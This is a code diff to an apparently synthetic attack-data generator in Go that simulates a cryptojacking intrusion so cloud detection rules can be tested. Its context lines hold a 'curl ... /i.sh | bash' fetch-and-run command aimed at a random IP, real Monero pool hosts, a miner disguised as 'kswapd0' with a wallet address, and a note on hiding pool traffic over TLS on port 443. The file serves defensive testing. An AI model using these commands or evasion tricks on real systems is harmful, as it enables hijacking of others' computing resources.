@@ -31,6 +31,8 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	far := g.otherRegions(2)
 	regions := append([]string{t.Regions[len(t.Regions)-1]}, far...)
 	pool := pick(g.r, []string{"gulf.moneroocean.stream", "pool.supportxmr.com", "xmr-eu1.nanopool.org", "pool.hashvault.pro"})
+	// Over TLS on 443: in a flow log, a connection like any other.
+	ep := endpoint{host: pool, port: 443, ip: poolEndpoints[pool][0].ip}
 	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/i.sh | bash"
 	now := at
 	for i, loc := range regions {
@@ -47,15 +49,14 @@ func (g *gen) cpuMining(at time.Time) Attack {
 		g.exec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{"/var/tmp/.cache/kswapd0", "-o", pool + ":443", "-u",
 			"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "--cpu-priority", "5", "--donate-level", "0", "-B"})
 		a.extend(up.Add(time.Second))
-		// Over TLS on 443: in a flow log, a connection like any other.
-		a.extend(g.minerFlows(up, loc, src, endpoint{host: pool, port: 443, ip: poolEndpoints[pool][0].ip}))
+		a.extend(g.minerFlows(up, loc, src, ep))
 		now = end.Add(2*time.Minute + g.jitter(4*time.Minute))
 	}
 	a.MustFire = []string{
 		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
 		"azure.dns.mining_pool_lookup", "azure.host.miner_process",
 	}
-	a.poolFlow(endpoint{host: pool, port: 443})
+	a.poolFlow(ep)
 	return a
 }
 
